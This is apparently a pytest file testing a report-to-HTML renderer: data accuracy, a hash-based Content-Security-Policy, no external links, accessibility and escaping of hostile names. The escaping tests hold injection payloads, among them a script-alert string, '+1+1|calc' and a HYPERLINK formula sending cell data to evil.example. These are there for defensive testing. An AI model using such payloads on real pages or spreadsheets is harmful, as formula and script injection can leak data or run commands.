"""A report as a web page: the same numbers, nothing that runs but our own, and nothing asked of anybody."""

import base64
import hashlib
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from itertools import pairwise

import pandas as pd
import pytest

from hirempire.charts.theme import DARK, LIGHT, contrast
from hirempire.exhibits.exhibit import Table
from hirempire.exhibits.metrics import METRICS
from hirempire.reports.story import Story
from hirempire.reports.webpage import MOST_ROWS, still, webpage
from hirempire.sandbox.workspace import Workspace

_VOID = {"meta", "img", "br", "wbr", "input", "link", "hr"}


class Page(HTMLParser):
    """What another reader of HTML makes of a page: elements, texts, tables, scripts."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.tables: list[list[list[str]]] = []
        self.said: list[str] = []
        self.scripts: list[tuple[dict[str, str], str]] = []
        self._open: list[str] = []
        self.feed(page)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Each element closes in its turn."""
        found = {name: value or "" for name, value in attrs}
        self.elements.append((tag, found))
        if tag not in _VOID:
            self._open.append(tag)
        if tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append([])
        elif tag in {"td", "th"}:
            self.tables[-1][-1].append("")
        elif tag == "script":
            self.scripts.append((found, ""))

    def handle_endtag(self, tag: str) -> None:
        """The last that was opened is the first to be closed."""
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        """A text, where it belongs."""
        if self._open[-1:] == ["script"]:
            attributes, text = self.scripts[-1]
            self.scripts[-1] = (attributes, text + data)
        elif {"td", "th"} & set(self._open):
            self.tables[-1][-1][-1] += data
        elif self._open[-1:] != ["style"]:
            self.said.append(data)

    @property
    def text(self) -> str:
        """All that it says outside of tables."""
        return "\n".join(self.said)


@pytest.fixture(scope="module")
def page(demo_story: Story) -> Page:
    """The demo's report."""
    return Page(webpage(demo_story).decode())


def number(cell: str) -> float:
    """A number as a reader reads it."""
    return float(cell.replace(",", ""))


def test_the_tables_have_the_numbers_that_were_served(page: Page, workspace: Workspace, demo_story: Story) -> None:
    """Read by another parser and counted another way: what the sandbox served, without the spoilt job and the lost."""
    header, *rows = page.tables[0]
    assert header[:2] == ["Channel", "Visits"]
    visits = sum(number(row[1]) for row in rows)
    came = set(demo_story.links["job_id"])
    readable = set(demo_story.links["link_id"])
    served = [link for job in workspace.jobs if job.id in came for link in job.links if link.id in readable]
    assert visits == sum(link.visits for link in served)
    assert sum(number(row[header.index("Links")]) for row in rows) == len(served)
    assert f"{visits:,.0f}" in page.said


def test_every_sentence_total_and_table_is_on_the_page(page: Page, demo_story: Story) -> None:
    """No format leaves anything out."""
    for section in demo_story.sections:
        for sentence in (section.title, *section.sentences):
            assert " ".join(sentence.split()) in page.said
    for line in (demo_story.title, demo_story.author, demo_story.note, *demo_story.scope):
        assert line in page.said
    exhibits = [one for section in demo_story.sections for one in section.exhibits]
    tables = [one for section in demo_story.sections for one in section.tables]
    assert len(page.tables) == len(exhibits) + len(tables)
    assert sorted(len(rows) - 1 for rows in page.tables) == sorted(
        [len(one.table.rows) for one in exhibits] + [len(one.rows) for one in tables]
    )


def test_the_charts_stand_in_it_in_three_looks(page: Page, demo_story: Story) -> None:
    """For light and dark screens, and for paper, with the numbers of the first chart in each."""
    charts = json.loads(next(text for attributes, text in page.scripts if attributes.get("id") == "charts"))
    exhibits = [one for section in demo_story.sections for one in section.exhibits]
    assert len(charts) == len(exhibits)
    assert all(set(chart) == {"light", "dark", "paper"} for chart in charts)
    assert {charts[0][look]["layout"]["paper_bgcolor"] for look in ("light", "dark")} == {LIGHT.paper, DARK.paper}
    drawn = [sum(trace["x"][0] for trace in charts[0][look]["data"]) for look in ("light", "dark", "paper")]
    assert drawn == [demo_story.links["visits"].sum()] * 3


def test_the_same_story_gives_the_same_bytes(demo_story: Story) -> None:
    """Reports can be compared."""
    assert webpage(demo_story) == webpage(demo_story)


def test_only_our_two_scripts_may_run(page: Page) -> None:
    """The policy names each by its hash, and no host at all."""
    policy = next(a["content"] for _, a in page.elements if a.get("http-equiv") == "Content-Security-Policy")
    run = [text for attributes, text in page.scripts if attributes.get("type") != "application/json"]
    hashes = {base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() for text in run}
    assert set(re.findall(r"'sha256-([^']+)'", policy)) == hashes
    assert len(hashes) == 2
    assert policy.startswith("default-src 'none'; ")
    assert "http" not in policy
    assert "unsafe" not in policy.split("style-src")[0]


def addresses(page: Page) -> Iterator[str]:
    """Whatever the page might be led to, or load."""
    for _, attributes in page.elements:
        yield from (attributes[name] for name in ("href", "src", "action", "srcset", "data") if name in attributes)


def test_it_leads_and_loads_from_nowhere(page: Page) -> None:
    """There are links within the page alone."""
    assert set(addresses(page)) <= {f"#{name}" for name in ("report", "summary", "channels", "compare", "timeline")} | {
        "#coverage",
        "#how",
    }


def test_no_name_becomes_an_element(hostile: Story, demo_story: Story) -> None:
    """Whatever names say, the page consists of what ours consist of, and they lead nowhere."""
    page = Page(webpage(hostile).decode())
    ours = Page(webpage(demo_story).decode())
    assert {tag for tag, _ in page.elements} <= {tag for tag, _ in ours.elements} | {"wbr"}
    assert {name for _, attributes in page.elements for name in attributes} <= {
        name for _, attributes in ours.elements for name in attributes
    }
    assert len(page.scripts) == 3
    assert all(one.startswith("#") for one in addresses(page))
    assert "<script>alert(1)</script>" in page.text
    json.loads(page.scripts[0][1])


def test_hostile_names_are_recognisable(hostile: Story) -> None:
    """What can be seen of a name is in the table, on one line, and no control character is."""
    whole = webpage(hostile).decode()
    cells = {cell for table in Page(whole).tables for row in table for cell in row}
    for name in (
        "+1+1|calc",
        "-2+3",
        "求人サイト・東京",
        "דרושים ועבודה",
        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    ):
        assert any(name in cell for cell in cells), name
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", whole.split('id="charts"')[0])
    assert max(len(cell) for cell in cells) <= 320


def test_a_long_table_says_what_is_not_here(demo_story: Story) -> None:
    """The page stays small whatever the number of jobs; the sentence names where all rows are."""
    section = next(one for one in demo_story.sections if one.name == "channels")
    exhibit = section.exhibits[0]
    many = replace(exhibit.table, rows=pd.concat([exhibit.table.rows] * 500, ignore_index=True))
    long = replace(demo_story, sections=(replace(section, exhibits=(replace(exhibit, build_table=lambda: many),)),))
    page = Page(webpage(long).decode())
    assert len(page.tables[0]) - 1 == MOST_ROWS
    assert any(f"first {MOST_ROWS} of {len(many.rows):,} rows" in said for said in page.said)
    assert any(f"Printed: the first 20 of {len(many.rows):,} rows" in said for said in page.said)


def test_a_table_that_is_wider_than_paper_keeps_its_first_columns_there_and_says_so(demo_story: Story) -> None:
    """On the screen all are there; on paper none is cut at the edge."""
    rows = pd.DataFrame({f"Column {n}": [n] for n in range(20)} | {"Job ID": ["x"]})
    wide = Table("Wide", rows, dict.fromkeys(rows.columns[:20], "count"))
    first = replace(demo_story.sections[0], exhibits=(), tables=(wide,))
    page = Page(webpage(replace(demo_story, sections=(first,))).decode())
    assert page.tables[0][0] == list(rows.columns)
    heads = [found.get("class", "").split() for tag, found in page.elements if tag == "th" and found["scope"] == "col"]
    assert ["id" in one for one in heads] == [False] * 10 + [True] * 11
    assert "Printed: 10 of 21 columns. The web page has all of them." in page.text


def test_the_definition_of_every_metric_stands_whole_in_a_cell(demo_story: Story) -> None:
    """None is cut."""
    rows = pd.DataFrame({"What to know": [metric.limits for metric in METRICS.values()]})
    first = replace(demo_story.sections[0], exhibits=(), tables=(Table("Counted", rows, {}),))
    cells = {cell for row in Page(webpage(replace(demo_story, sections=(first,))).decode()).tables[0] for cell in row}
    assert {metric.limits for metric in METRICS.values()} <= cells


def test_it_can_be_read_by_ear(page: Page) -> None:
    """Language, landmarks, headings in order, a name for each chart, and heads for each table."""
    tags = [tag for tag, _ in page.elements]
    assert ("html", {"lang": "en"}) in page.elements
    assert {"header", "nav", "main", "footer"} <= set(tags)
    levels = [int(tag[1]) for tag in tags if re.fullmatch(r"h\d", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(later - earlier <= 1 for earlier, later in pairwise(levels))
    charts = [attributes for _, attributes in page.elements if "data-chart" in attributes]
    assert all(one["role"] == "img" and one["aria-label"] for one in charts)
    assert tags.count("caption") == tags.count("table")
    assert all(attributes.get("scope") in {"col", "row"} for tag, attributes in page.elements if tag == "th")


def test_words_stand_out_from_the_paper() -> None:
    """4.5:1 in both looks, for what is muted and for links, too."""
    rules = re.findall(r"--(\w+):(#\w{6})", still(Story("", "", "", None, (), (), (), pd.DataFrame(), _AT, "UTC")))
    looks = [dict(rules[: len(rules) // 2]), dict(rules[len(rules) // 2 :])]
    for look in looks:
        for ink in ("ink", "muted", "link"):
            assert contrast(look[ink], look["paper"]) >= 4.5
            assert contrast(look[ink], look["soft"]) >= 4.5


_AT = pd.Timestamp("2026-06-18T10:30Z").to_pydatetime()


def test_a_preview_is_the_page_without_scripts(demo_story: Story) -> None:
    """What is shown is what will be written."""
    page, shown = Page(webpage(demo_story).decode()), Page(still(demo_story))
    assert shown.scripts == []
    assert [one.strip() for one in shown.said if one.strip()][:40] == [one.strip() for one in page.said if one.strip()][
        :40
    ]
    policy = next(a["content"] for _, a in shown.elements if a.get("http-equiv") == "Content-Security-Policy")
    assert "script-src 'none'" in policy


def test_the_page_is_valid_where_checkers_are_strict(demo_story: Story, hostile: Story) -> None:
    """Each caption is the first in its figure, IDs are there once, and no character is one that HTML forbids."""
    for story in (demo_story, hostile):
        html = webpage(story).decode()
        page = Page(html)
        assert not re.search("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]", html)
        ids = [found["id"] for _, found in page.elements if "id" in found]
        assert len(ids) == len(set(ids))
        after = [later for (tag, _), (later, _) in pairwise(page.elements) if tag == "figure"]
        assert set(after) == {"figcaption"}
